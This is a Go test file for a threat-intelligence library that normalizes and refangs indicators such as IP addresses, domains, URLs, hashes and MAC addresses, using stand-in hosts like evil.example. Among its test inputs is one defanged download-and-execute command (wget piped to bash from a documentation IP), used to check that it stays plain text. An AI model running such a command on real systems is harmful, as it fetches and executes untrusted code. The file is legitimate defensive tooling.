package pattern

import (
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/publicsuffix"
)

const (
	md5Hex    = "d41d8cd98f00b204e9800998ecf8427e"
	sha1Hex   = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
	sha256Hex = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
)

// normalized are values without a path; each is also read under a path that
// says nothing more, and through Refang.
var normalized = []struct {
	in   string
	typ  Type
	want string
}{
	// IPv4 in every notation.
	{"198.51.100.1", IPv4, "198.51.100.1"}, {" 198.51.100.1\t", IPv4, "198.51.100.1"}, {"0xC6.0x33.0x64.0x1", IPv4, "198.51.100.1"},
	{"0306.063.0144.01", IPv4, "198.51.100.1"}, {"0xc6336401", IPv4, "198.51.100.1"}, {"0XC6336401", IPv4, "198.51.100.1"},
	{"198.063.0x64.1", IPv4, "198.51.100.1"}, {"::ffff:198.51.100.1", IPv4, "198.51.100.1"}, {"::FFFF:c633:6401", IPv4, "198.51.100.1"},
	{"64:ff9b::198.51.100.1", IPv4, "198.51.100.1"}, {"64:ff9b::c633:6401", IPv4, "198.51.100.1"}, {"198.51.100.1/32", IPv4, "198.51.100.1"},
	{"::ffff:198.51.100.1/128", IPv4, "198.51.100.1"}, {"[::ffff:198.51.100.1]", IPv4, "198.51.100.1"}, {"１９８.51.100.1", IPv4, "198.51.100.1"},
	{"256.1.1.1", Text, "256.1.1.1"}, {"1.2.3.08", Text, "1.2.3.08"}, {"1.2.3", Text, "1.2.3"}, {"3325256705", Text, "3325256705"},
	{"1.2.3.4.5", Text, "1.2.3.4.5"}, {"0x01", Text, "0x01"}, {"[198.51.100.1]", Text, "[198.51.100.1]"}, {"198.51.100.1:8080", Text, "198.51.100.1:8080"},
	// IPv6.
	{"2001:DB8:0:0:0:0:0:1", IPv6, "2001:db8::1"}, {"2001:db8::0001", IPv6, "2001:db8::1"}, {"[2001:db8::1]", IPv6, "2001:db8::1"},
	{"fe80::1%eth0", IPv6, "fe80::1"}, {"2001:db8::1/128", IPv6, "2001:db8::1"}, {"::", IPv6, "::"}, {"2001:db8::1::2", Text, "2001:db8::1::2"},
	{"[2001:db8::1]:443", Text, "[2001:db8::1]:443"},
	// Networks.
	{"198.51.100.77/24", CIDR, "198.51.100.0/24"}, {"0.0.0.0/0", CIDR, "0.0.0.0/0"}, {"2001:db8:ffff::/32", CIDR, "2001:db8::/32"},
	{"::ffff:198.51.100.77/120", CIDR, "198.51.100.0/24"}, {"64:ff9b::198.51.100.77/120", CIDR, "198.51.100.0/24"}, {"64:ff9b::/64", CIDR, "64:ff9b::/64"},
	{"2001:db8::/129", Text, "2001:db8::/129"}, {"198.51.100.77/33", URL, "198.51.100.77/33"},
	// Domains.
	{"Evil.EXAMPLE", Domain, "evil.example"}, {"evil.example.", Domain, "evil.example"}, {"*.evil.example", Domain, "evil.example"},
	{".evil.example", Domain, "evil.example"}, {"_dmarc.evil.example", Domain, "_dmarc.evil.example"}, {"bücher.example", Domain, "xn--bcher-kva.example"},
	{"BÜCHER.example", Domain, "xn--bcher-kva.example"}, {"XN--BCHER-KVA.example", Domain, "xn--bcher-kva.example"}, {"faß.example", Domain, "xn--fa-hia.example"},
	{"例え。テスト", Domain, "xn--r8jz45g.xn--zckzah"}, {"a-.example", Domain, "a-.example"}, {"1.2.3.example", Domain, "1.2.3.example"},
	{strings.Repeat("a", 63) + ".example", Domain, strings.Repeat("a", 63) + ".example"},
	{strings.Repeat("a", 64) + ".example", Text, strings.Repeat("a", 64) + ".example"},
	{strings.Repeat("a.", 126) + "aa", Text, strings.Repeat("a.", 126) + "aa"},
	{strings.Repeat("a.", 125) + "aaa", Domain, strings.Repeat("a.", 125) + "aaa"},
	{"localhost", Text, "localhost"}, {"evil..example", Text, "evil..example"}, {"evil.example..", Text, "evil.example.."}, {"evil.exampl3", Text, "evil.exampl3"},
	{"evil.e", Text, "evil.e"}, {"Matanbuchus.dll", Text, "Matanbuchus.dll"}, {"roleaccountd.plist", Text, "roleaccountd.plist"}, {"evil example", Text, "evil example"},
	{"*.*.example", Text, "*.*.example"}, {"dead.beef.cafe", Domain, "dead.beef.cafe"}, {".", Text, "."}, {"*.", Text, "*."},
	// URLs.
	{"HTTP://Evil.EXAMPLE", URL, "http://evil.example/"}, {"http://evil.example:80/A?b=C#D", URL, "http://evil.example/A?b=C#D"},
	{"https://evil.example:443", URL, "https://evil.example/"}, {"https://evil.example:0080/x", URL, "https://evil.example:80/x"}, {"http://evil.example:/", URL, "http://evil.example/"},
	{"http://evil.example?q", URL, "http://evil.example/?q"}, {"http://u:P@evil.example/", URL, "http://u:P@evil.example/"}, {"http://a@b@evil.example/", URL, "http://a@b@evil.example/"},
	{"http://0x7f.1/x", URL, "http://127.0.0.1/x"}, {"http://2130706433/", URL, "http://127.0.0.1/"}, {"http://[::FFFF:7f00:1]/", URL, "http://127.0.0.1/"},
	{"http://[2001:DB8::0:1]:8080/", URL, "http://[2001:db8::1]:8080/"}, {"http://bücher.example/ü", URL, "http://xn--bcher-kva.example/%C3%BC"},
	{"http://evil.example/%7euser/%2f%zz%%34%31", URL, "http://evil.example/~user/%2F%25zz%2541"}, {"http://%65vil.example/", URL, "http://evil.example/"},
	{"http://evil.example./x", URL, "http://evil.example/x"}, {"http://intranet/x", URL, "http://intranet/x"}, {"http://load.php/x", URL, "http://load.php/x"},
	{"file:///etc/passwd", URL, "file:///etc/passwd"}, {"ftp://evil.example:21", URL, "ftp://evil.example/"}, {"ssh://evil.example", URL, "ssh://evil.example"},
	{"Evil.example/Path/x", URL, "evil.example/Path/x"}, {"evil.example:8080/x", URL, "evil.example:8080/x"}, {"evil.example/r?u=http://x.example", URL, "evil.example/r?u=http://x.example"},
	{"198.51.100.1/x", URL, "198.51.100.1/x"}, {"[2001:db8::1]/x", URL, "[2001:db8::1]/x"}, {"evil.example/", Domain, "evil.example"}, {"198.51.100.1/%32%34", CIDR, "198.51.100.0/24"},
	{"http://", Text, "http://"}, {"http:///x", URL, "http://x/"}, {"//evil.example/x", URL, "evil.example/x"}, {"//evil.example/", Domain, "evil.example"}, {"//", Text, "//"}, {"http:", Text, "http:"}, {`http:\\`, Text, `http:\\`},
	{`http:\\evil.example\a\b?c\d`, URL, `http://evil.example/a/b?c\d`}, {"http:evil.example", URL, "http://evil.example/"}, {`https:/\/evil.example:443`, URL, "https://evil.example/"}, {`http://evil\.example/x`, URL, "http://evil.example/x"},
	{"file:evil.example", Text, "file:evil.example"}, {`c:\evil.example`, Text, `c:\evil.example`}, {"http:///", Text, "http:///"},
	{"http://a b/", Text, "http://a b/"}, {"http://x:99999/", Text, "http://x:99999/"},
	{"http://1.2.3.4.5/", Text, "http://1.2.3.4.5/"}, {"http://999/x", URL, "http://0.0.3.231/x"}, {"http://a*b/", Text, "http://a*b/"}, {"http://a%zz/", Text, "http://a%zz/"},
	{"application/pdf", Text, "application/pdf"}, {"/data/local/tmp/wd/fs.db", Text, "/data/local/tmp/wd/fs.db"}, {"load.php/x", Text, "load.php/x"}, {"C:\\Windows\\x.exe", Text, "C:\\Windows\\x.exe"},
	{"user@evil.example/x", Text, "user@evil.example/x"}, {"mailto:user@evil.example", Text, "mailto:user@evil.example"},
	// E-mail.
	{"Some.User+Tag@Evil.EXAMPLE", Email, "some.user+tag@evil.example"}, {"user@bücher.example", Email, "user@xn--bcher-kva.example"}, {"Ünal@evil.example.", Email, "ünal@evil.example"},
	{"user@localhost", Text, "user@localhost"}, {"a@b@evil.example", Text, "a@b@evil.example"}, {"@evil.example", Text, "@evil.example"}, {"user@", Text, "user@"},
	// Hashes.
	{strings.ToUpper(md5Hex), MD5, md5Hex}, {strings.ToUpper(sha1Hex), SHA1, sha1Hex}, {strings.ToUpper(sha256Hex), SHA256, sha256Hex},
	{sha256Hex + sha256Hex, SHA512, sha256Hex + sha256Hex}, {sha256Hex + "0", Text, sha256Hex + "0"}, {"g" + md5Hex[1:], Text, "g" + md5Hex[1:]},
	// MAC addresses.
	{"AA:bb:CC:00:11:22", MAC, "aa:bb:cc:00:11:22"}, {"AA-BB-CC-00-11-22", MAC, "aa:bb:cc:00:11:22"}, {"aabb.cc00.1122", MAC, "aa:bb:cc:00:11:22"},
	{"aabbcc001122", Text, "aabbcc001122"}, {"aa:bb-cc:00:11:22", Text, "aa:bb-cc:00:11:22"}, {"aa:bb:cc:00:11:2", Text, "aa:bb:cc:00:11:2"}, {"aaabb:ccdd:ee:ff:0", Text, "aaabb:ccdd:ee:ff:0"},
	// AS numbers.
	{"AS64496", ASN, "AS64496"}, {"as64496", ASN, "AS64496"}, {"ASN064496", ASN, "AS64496"}, {"AS4294967295", ASN, "AS4294967295"}, {"AS4294967296", Text, "AS4294967296"}, {"AS", Text, "AS"},
	// Text is composed (NFC).
	{"Cafe\u0301", Text, "Café"}, {"Café", Text, "Café"}, {"\u212b", Text, "Å"}, {"\u1100\u1161\u11a8", Text, "각"}, {"a\u0323\u0307", Text, "ạ\u0307"}, {"a\u0307\u0323", Text, "ạ\u0307"},
	{"\u0958", Text, "\u0915\u093c"}, {"ﬁ", Text, "ﬁ"}, {"e" + strings.Repeat("\u0301", 30), Text, "é" + strings.Repeat("\u0301", 29)},
	{"e" + strings.Repeat("\u0301", 31), Text, "e" + strings.Repeat("\u0301", 31)}, {"\xffe\u0301", Text, "\xffé"},
	{"\u1fefevil.example\u1fef", Domain, "evil.example"}, {"\u1fefx y\u1fef", Text, "`x y`"},
	{"U\u0308nal@evil.example", Email, "ünal@evil.example"}, {"J\u030c@evil.example", Email, "\u01f0@evil.example"}, {"a\u037eb@evil.example", Text, "a;b@evil.example"},
	{"http://evil.example/e\u0301", URL, "http://evil.example/e%CC%81"}, {"http://bu\u0308cher.example/", URL, "http://xn--bcher-kva.example/"},
	// It stays as it is otherwise.
	{"", Text, ""}, {"Process Name", Text, "Process Name"}, {"nul\x00byte", Text, "nul\x00byte"}, {"\xff\xfe", Text, "\xff\xfe"}, {"wget -qO- hxxp://198.51.100[.]93/patch|bash", Text, "wget -qO- hxxp://198.51.100[.]93/patch|bash"},
	// Defanged.
	{"hxxp://evil[.]example/x", URL, "http://evil.example/x"}, {"hXXpS://evil(.)example", URL, "https://evil.example/"}, {"h**p://evil.example/", URL, "http://evil.example/"},
	{"hxxps[:]//evil{.}example/", URL, "https://evil.example/"}, {"hxxp[://]evil[dot]example/", URL, "http://evil.example/"}, {"fxp://evil.example/x", URL, "ftp://evil.example/x"},
	{"evil [.] example", Domain, "evil.example"}, {"evil[.example", Domain, "evil.example"}, {"evil.]example", Domain, "evil.example"}, {`evil\.example`, Domain, "evil.example"}, {"evil(DOT)example", Domain, "evil.example"},
	{"198[.]51[.]100[.]1", IPv4, "198.51.100.1"}, {"198.51.100[.]1/24", CIDR, "198.51.100.0/24"}, {"2001[:]db8[:][:]1", IPv6, "2001:db8::1"},
	{"user[@]evil[.]example", Email, "user@evil.example"}, {"user(at)evil(dot)example", Email, "user@evil.example"}, {"<http://evil.example/>", URL, "http://evil.example/"}, {`"evil.example"`, Domain, "evil.example"},
	{"'<evil.example>'", Domain, "evil.example"}, {"C:\\foo(.)bar", Text, "C:\\foo(.)bar"}, {"f(x)", Text, "f(x)"},
}

func TestNormalize(t *testing.T) {
	for _, c := range normalized {
		want := Observable{c.typ, c.want}
		for _, path := range []string{"", "domain-name:value", "file:hashes.sha256", "artifact:payload_bin"} {
			if path == "domain-name:value" && strings.Contains(c.in, ":") {
				continue // there a port is cut off
			}
			if got := Normalize(path, c.in); got != want {
				t.Errorf("Normalize(%q, %q) = %v, want %v", path, c.in, got, want)
			}
		}
		if want.Type == Text {
			want.Value = strings.TrimSpace(want.Value)
		}
		if got := Refang(" " + c.in + "\n"); got != want {
			t.Errorf("Refang(%q) = %v, want %v", c.in, got, want)
		}
	}
}

func TestNormalizeUnderPath(t *testing.T) {
	for _, c := range []struct {
		path, in string
		want     Observable
	}{
		{"ipv4-addr:value", "3325256705", Observable{IPv4, "198.51.100.1"}},
		{"ipv4-addr:value", "198.51.25601", Observable{IPv4, "198.51.100.1"}},
		{"ipv4-addr:value", "127.1", Observable{IPv4, "127.0.0.1"}},
		{"file:hashes.'SHA3-256'", strings.ToUpper(sha256Hex), Observable{Text, "sha3-256:" + sha256Hex}},
		{"file:hashes.sha3512", sha256Hex + sha256Hex, Observable{Text, "sha3-512:" + sha256Hex + sha256Hex}},
		{"file:hashes.'SHA3-256'", "sha3-256:" + sha256Hex, Observable{Text, "sha3-256:" + sha256Hex}},
		{"file:hashes.'SHA3-256'", md5Hex, Observable{MD5, md5Hex}},
		{"file:hashes.'SHA-256'", sha256Hex, Observable{SHA256, sha256Hex}},
		{"ipv4-addr:value", "4294967296", Observable{Text, "4294967296"}},
		{"ipv4-addr:value", "198.51.100.1:8080", Observable{IPv4, "198.51.100.1"}},
		{"ipv6-addr:value", "[2001:db8::1]:443", Observable{IPv6, "2001:db8::1"}},
		{"domain-name:value", "evil.example:8443", Observable{Domain, "evil.example"}},
		{"domain-name:value", "198.51.100.1", Observable{IPv4, "198.51.100.1"}},
		{"domain-name:value", "http://evil.example", Observable{URL, "http://evil.example/"}},
		{"domain-name:value", "evil.example:x", Observable{Text, "evil.example:x"}},
		{"url:value", "evil.example", Observable{Domain, "evil.example"}},
		{"autonomous-system:number", "64496", Observable{ASN, "AS64496"}},
		{"autonomous-system:number", "4294967296", Observable{Text, "4294967296"}},
		{"mac-addr:value", "aabbcc001122", Observable{MAC, "aa:bb:cc:00:11:22"}},
		{"mac-addr:value", "dead.beef.cafe", Observable{MAC, "de:ad:be:ef:ca:fe"}},
		{"process:pid", "64496", Observable{Text, "64496"}},
	} {
		if got := Normalize(c.path, c.in); got != c.want {
			t.Errorf("Normalize(%q, %q) = %v, want %v", c.path, c.in, got, c.want)
		}
	}
}

// TestFileEndings: no ending that makes a name text may be a top-level domain.
func TestFileEndings(t *testing.T) {
	if !isFileEnding("dll") || isFileEnding("zip") || isFileEnding("com") || isFileEnding("sh") {
		t.Error("the table is not what it was")
	}
	for _, ending := range []string{"exe", "dll", "sys", "bat", "cmd", "scr", "lnk", "js", "hta", "rb", "lua", "jar", "class", "ko", "bin", "out", "doc",
		"pdf", "txt", "log", "xml", "json", "config", "dat", "db", "old", "lock", "html", "php", "aspx", "css", "img", "pkg", "msg", "url", "sql", "temp"} {
		if _, icann := publicsuffix.PublicSuffix("x." + ending); icann || !isFileEnding(ending) {
			t.Errorf("%s: a top-level domain, or missing from the table", ending)
		}
	}
}

func TestFromObservable(t *testing.T) {
	for _, c := range []struct {
		typ, props string
		want       []Observable
	}{
		{"ipv4-addr", `{"value":"0xc6336401"}`, []Observable{{IPv4, "198.51.100.1"}}},
		{"domain-name", `{"value":"Evil.Example","resolves_to_refs":["x"]}`, []Observable{{Domain, "evil.example"}}},
		{"autonomous-system", `{"number":64496,"name":"Example"}`, []Observable{{ASN, "AS64496"}}},
		{"file", `{"name":"a.dll","hashes":{"sha256":"` + strings.ToUpper(sha256Hex) + `","MD5":"` + md5Hex + `","x":5}}`,
			[]Observable{{Text, "a.dll"}, {MD5, md5Hex}, {SHA256, sha256Hex}}},
		{"file", `{"name":"` + md5Hex + `","hashes":{"MD5":"` + md5Hex + `"}}`, []Observable{{MD5, md5Hex}}},
		{"network-traffic", `{"dst_port":443}`, nil},
		{"software", `{"name":"Firefox"}`, nil},
		{"windows-registry-key", `{"key":"HKLM\\x"}`, []Observable{{Text, `HKLM\x`}}},
		{"x-sensor", `{"value":"evil.example","name":5,"hashes":"no"}`, []Observable{{Domain, "evil.example"}, {Text, "5"}}},
		{"url", `{"value":""}`, nil},
		{"url", `{"value":["x"]}`, nil},
	} {
		var props map[string]any
		if err := json.Unmarshal([]byte(c.props), &props); err != nil {
			t.Fatal(err)
		}
		if got := FromObservable(c.typ, props); !slices.Equal(got, c.want) {
			t.Errorf("%s %s: %v, want %v", c.typ, c.props, got, c.want)
		}
	}
	for _, number := range []any{64496, int64(64496), 64496.0, json.Number("64496")} {
		got := FromObservable("autonomous-system", map[string]any{"number": number})
		if want := []Observable{{ASN, "AS64496"}}; !reflect.DeepEqual(got, want) {
			t.Errorf("%T: %v, want %v", number, got, want)
		}
	}
	if got := FromObservable("autonomous-system", map[string]any{"number": 1.5}); got != nil {
		t.Errorf("half an AS number gave %v", got)
	}
}

// FuzzNormalize: the normal form is its own normal form, under the path it came
// from, under none, and as a person would type it.
func FuzzNormalize(f *testing.F) {
	for _, c := range normalized {
		f.Add("", c.in)
	}
	for _, root := range []string{"ipv4-addr", "ipv6-addr", "domain-name", "mac-addr", "autonomous-system", "url", "file"} {
		f.Add(root+":value", "127.1")
		f.Add(root+":value", "aabb.ccdd.eeff:80")
		f.Add(root+":value", "64496")
	}
	f.Fuzz(func(t *testing.T, path, value string) {
		o := Normalize(path, value)
		for _, p := range []string{path, ""} {
			if again := Normalize(p, o.Value); again != o {
				t.Fatalf("Normalize(%q, %q) = %q, again under %q: %q", path, value, o, p, again)
			}
		}
		r := Refang(value)
		if again := Refang(r.Value); again != r {
			t.Fatalf("Refang(%q) = %q, again: %q", value, r, again)
		}
		if r.Type != Text && Normalize("", value) != r {
			t.Fatalf("%q: Refang gives %q, Normalize %q", value, r, Normalize("", value))
		}
	})
}

func BenchmarkNormalize(b *testing.B) {
	for _, c := range []struct{ name, path, value string }{
		{"ipv4", "ipv4-addr:value", "198.51.100.1"},
		{"ipv6", "ipv6-addr:value", "2001:db8::1"},
		{"domain", "domain-name:value", "www.evil.example"},
		{"domain-upper", "domain-name:value", "WWW.evil.example"},
		{"domain-idn", "domain-name:value", "bücher.example"},
		{"url", "url:value", "http://www.evil.example/path/x?q=1"},
		{"sha256", "file:hashes.'SHA-256'", sha256Hex},
		{"text", "process:name", "fservernetd"},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Normalize(c.path, c.value)
			}
		})
	}
}
